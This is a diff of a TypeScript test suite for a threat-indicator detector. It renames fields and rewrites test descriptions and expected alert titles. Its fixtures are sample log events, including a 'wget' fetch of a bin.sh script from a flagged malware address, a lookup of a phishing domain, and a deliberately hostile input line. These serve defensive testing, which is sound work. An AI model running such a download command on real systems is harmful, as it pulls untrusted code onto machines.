@@ -39,9 +39,9 @@ const connection = (number: number, destination: string, facts = {}) =>
 
 describeDetector('indicator', {
   make: () => make(),
-  ordinary: Array.from({ length: 20 }, (_, n) => someLogin(n, someTime + n * 1000, true, 'ana', '192.0.2.1')),
-  odd: Array.from({ length: 12 }, (_, n) => connection(100 + n, '203.0.113.9')),
-  more: Array.from({ length: 20 }, (_, n) => someLogin(300 + n, someTime + n * 1000, true, 'ana', '192.0.2.1')),
+  normal: Array.from({ length: 20 }, (_, n) => someLogin(n, someTime + n * 1000, true, 'ana', '192.0.2.1')),
+  anomalous: Array.from({ length: 12 }, (_, n) => connection(100 + n, '203.0.113.9')),
+  moreNormal: Array.from({ length: 20 }, (_, n) => someLogin(300 + n, someTime + n * 1000, true, 'ana', '192.0.2.1')),
   *flood(count) {
     for (let n = 0; n < count; n++)
       yield someLogin(1000 + n, someTime + n * 10, false, `user${n}`, `10.0.${n >> 8}.${n & 255}`)
@@ -49,7 +49,7 @@ describeDetector('indicator', {
 })
 
 describe('the detector indicator', () => {
-  it('tells who is known, by whom, as what, and what it did', () => {
+  it('names the indicator, its sources and what it did', () => {
     const [found] = make().detect([connection(1, '203.0.113.9')])
     expect(found).toMatchObject({
       kind: 'indicator',
@@ -58,7 +58,7 @@ describe('the detector indicator', () => {
       score: 0.95,
       title: '10.0.0.5 contacted 203.0.113.9: command server of ExampleBot',
       sentence:
-        'feodo and own know 203.0.113.9 as command server of ExampleBot (critical, 95 % sure); 10.0.0.5 contacted 203.0.113.9.',
+        'feodo and own list 203.0.113.9 as command server of ExampleBot (critical, 95 % confidence); 10.0.0.5 contacted 203.0.113.9.',
       value: '203.0.113.9',
       techniques: ['T1071'],
       event_count: 1,
@@ -70,19 +70,19 @@ describe('the detector indicator', () => {
     ])
   })
 
-  it('takes it milder when the known one knocks, and milder still when it is refused', () => {
+  it('rates incoming contact lower, and refused contact lower still', () => {
     const [came] = make().detect([someLogin(1, someTime, true, 'root', '203.0.113.9')])
     const [refused] = make().detect([someLogin(1, someTime, false, 'root', '203.0.113.9')])
     expect([came?.severity, refused?.severity]).toEqual(['high', 'medium'])
-    expect(came?.title).toBe('203.0.113.9 came to web-01: command server of ExampleBot')
+    expect(came?.title).toBe('203.0.113.9 connected to web-01: command server of ExampleBot')
   })
 
-  it('finds ranges, names below a name, and links, in lines and in fields', () => {
+  it('finds ranges, subdomains and links, in lines and in fields', () => {
     const events = [
       connection(1, '198.51.100.77'),
       someEvent(2, someTime, { message: 'query: login.evil-example.com IN A', fields: { 'host.name': 'dns-01' } }),
       someEvent(3, someTime, { message: 'wget http://203.0.113.77:8080/bin.sh' }),
-      // As auditd writes an address: in hex, so that only the field tells.
+      // auditd writes addresses in hex, so only the field shows it.
       someEvent(4, someTime, { message: 'saddr=0200115CCB007109', fields: { 'destination.ip': '203.0.113.9' } }),
       someEvent(5, someTime, {
         message: '?',
@@ -95,20 +95,20 @@ describe('the detector indicator', () => {
         .map(({ title }) => title),
     ).toEqual([
       '10.0.0.5 contacted 198.51.100.77 (198.51.100.0/24): range of criminals',
-      'evil-example.com occurs at dns-01: phishing kit',
-      'http://203.0.113.77:8080/bin.sh occurs at auth: serves malware',
+      'evil-example.com appears in logs of dns-01: phishing kit',
+      'http://203.0.113.77:8080/bin.sh appears in logs of auth: serves malware',
       'auth contacted 203.0.113.9: command server of ExampleBot',
-      '10.0.0.7 asked for evil-example.com: phishing kit',
+      '10.0.0.7 looked up evil-example.com: phishing kit',
     ])
   })
 
-  it('leaves out what is too mild or too unsure, unless it is told otherwise', () => {
+  it('skips low severities and confidences by default', () => {
     const events = [connection(1, '192.0.2.66'), connection(2, '192.0.2.67')]
     expect(make().detect(events)).toEqual([])
     expect(make(index, { min_level: 'low', min_confidence: 0.1 }).detect(events)).toHaveLength(2)
   })
 
-  it('tells again as it goes on, of the same matter, and of another one after an hour of quiet', () => {
+  it('reports repeats in the same episode, and another episode after an hour', () => {
     const detector = make()
     const found = Array.from({ length: 12 }, (_, n) => connection(n, '203.0.113.9')).flatMap((event) =>
       detector.detect([event]),
@@ -121,7 +121,7 @@ describe('the detector indicator', () => {
     expect(later?.dedup_key).toBe(found[0]?.dedup_key)
   })
 
-  it('matches what holds at the time of the event only', () => {
+  it('matches only indicators valid at the time of the event', () => {
     const table = new IndicatorIndex()
     const facts = { level: 3, confidence: 0.9, sources: ['own'], note: '', validUntil: someTime }
     table.set({ type: 'ip', value: '203.0.113.9' }, facts)
@@ -129,7 +129,7 @@ describe('the detector indicator', () => {
     expect([at(someTime).length, at(someTime + minute).length]).toEqual([1, 0])
   })
 
-  it('costs nothing without indicators, and sees those that come', () => {
+  it('costs nothing without indicators, and sees new ones', () => {
     const table = new IndicatorIndex()
     const detector = make(table)
     const event = connection(1, '203.0.113.9')
@@ -143,7 +143,7 @@ describe('the detector indicator', () => {
     expect(detector.detect([event])).toHaveLength(1)
   })
 
-  it('takes hostile lines for what they are', () => {
+  it('survives hostile lines', () => {
     const message = `203.0.113.9 ${'http://'.repeat(20_000)} \u202e evil-example.com\r\n<script>`
     const found = make().detect([someEvent(1, someTime, { message })])
     expect(found.map(({ value }) => value)).toEqual(['203.0.113.9', 'evil-example.com'])
